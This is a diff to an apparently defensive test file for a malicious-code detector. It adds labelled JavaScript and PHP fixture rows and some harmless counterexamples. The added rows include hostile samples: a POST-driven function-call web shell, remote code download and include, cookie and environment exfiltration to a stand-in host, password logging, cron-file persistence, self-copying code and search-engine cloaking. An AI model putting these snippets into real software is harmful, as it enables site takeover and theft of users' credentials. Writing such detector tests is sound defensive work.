@@ -95,7 +95,6 @@ const code: readonly Row[] = [
   ['the descriptor of a constructor', 'eval', "const d = Object.getOwnPropertyDescriptor(p, 'constructor');"],
   ['the constructor by a pattern', 'eval', "const { ['constructor']: F } = Object.getPrototypeOf(f);"],
   ['eval in a list', 'eval', 'const list = [Math.max, eval, Math.min];'],
-  ['eval as a callback', 'eval', 'text.replace(/x/, eval);'],
   ['an import of what was joined', 'eval', "import(['https:', '', host].join('/'));"],
   ['any module', 'eval', "const { builtinModules: b } = require('module'); b.filter(f).map(require);"],
   ['the console of the process', 'eval', "new (require('node:inspector').Session)().connect();"],
@@ -143,6 +142,55 @@ const php: readonly Row[] = [
     'file_write',
     '$t = tempnam($d, "z"); copy($from, $t); $z = new ZipArchive(); $z->open($t); $z->extractTo($d);',
   ],
+  [
+    'a key of a generator',
+    'eval',
+    'function p($in) { foreach ($in as $k => $v) yield $k => $v; } foreach (p($_POST) as $f => $a) $f($a);',
+  ],
+  [
+    'a function of another server',
+    'eval',
+    '$j = json_decode(file_get_contents("https://a.example.net/j")); ($j->f)($j->a);',
+  ],
+  ['a function of a row', 'obfuscated', '$r = $q->fetch(); call_user_func($r["f"], $r["a"]);'],
+  ['a class of a row', 'eval', '$r = $q->fetch(); new $r["class"]($a);'],
+  ['a temporary file after a condition', 'include_image', '$n = tempnam($d, "b"); f($n) && require $n;'],
+  ['an unknown file beside a download', 'eval', 'copy("https://a.example.net/m", $f); include $g;'],
+  [
+    'an archive that is downloaded',
+    'file_write',
+    'copy("https://a.example.net/p.zip", $f); $z->open($f); $z->extractTo($d);',
+  ],
+  [
+    'a property that is given by name',
+    'eval',
+    'class F { public $f = "is_string"; function a() { return ($this->f)($this->v); } } $o->f = $_POST["f"];',
+  ],
+  ['objects of another server', 'unserialize_request', 'unserialize(file_get_contents("https://a.example.net/o"));'],
+  [
+    'what another server writes into the page',
+    'inline_script',
+    'echo file_get_contents("https://a.example.net/f.html");',
+  ],
+  ['a program that copies itself', 'file_write', 'copy(__FILE__, $d . "/index2.php");'],
+  ['a program that joins itself to others', 'file_write', 'file_put_contents($f, file_get_contents(__FILE__) . $old);'],
+  ['a file that runs by itself', 'file_write', 'file_put_contents("/etc/cron.d/x", $line);'],
+  ['passwords that are kept', 'data_leak', 'file_put_contents($f, $_POST["log"] . $_POST["pwd"], FILE_APPEND);'],
+  [
+    'cookies in the page',
+    'data_leak',
+    'echo "<img src=\'https://a.example.net/p?" . http_build_query($_COOKIE) . "\'>";',
+  ],
+  [
+    'the environment to an unknown host',
+    'data_leak',
+    'curl_setopt(curl_init($o["to"]), CURLOPT_POSTFIELDS, json_encode($_ENV));',
+  ],
+  [
+    'what search engines see',
+    'server_config',
+    'if (preg_match("/googlebot/i", $ua)) echo f("https://a.example.net/links");',
+  ],
 ];
 
 const harmless: readonly Row[] = [
@@ -155,6 +203,10 @@ const harmless: readonly Row[] = [
   ['a.php', '', "<?php $c = curl_init('https://a.example.net'); curl_exec($c);"],
   ['a.php', '', "<?php setcookie('a', 'b'); $u = 'https://a.example.net';"],
   ['a.php', '', "<?php $c = $map['x']; new $c($a);"],
+  ['a.php', '', '<?php $p = $_SERVER["HTTP_HOST"]; curl_exec(curl_init("https://a.example.net"));'],
+  ['a.php', '', '<?php file_put_contents($f, date("c"), FILE_APPEND); $d = dirname(__FILE__);'],
+  ['a.php', '', '<?php echo "<a href=\'https://a.example.net\'>" . $_COOKIE["lang"];'],
+  ['a.php', '', '<?php function g($a) { foreach ($a as $k => $v) yield $k => $v; } include $f;'],
 ];
 
 describe('what stands near something else (decisions §5)', () => {
